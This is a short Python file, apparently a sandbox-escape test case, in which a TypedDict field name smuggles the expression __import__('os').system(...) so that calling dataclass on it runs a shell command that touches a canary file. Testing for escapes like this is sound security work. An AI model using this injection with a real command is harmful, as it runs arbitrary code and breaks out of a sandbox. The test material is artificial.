# x04_typeddict_dataclass [escape]: field names from a functional TypedDict are pasted into dataclass's source
from dataclasses import dataclass
from typing import TypedDict


def solver(n1, n2):
    X = TypedDict("X", {"x=__import__('os').system('touch @CANARY@/pwn/x04')": int})
    dataclass(X)
    return "no"
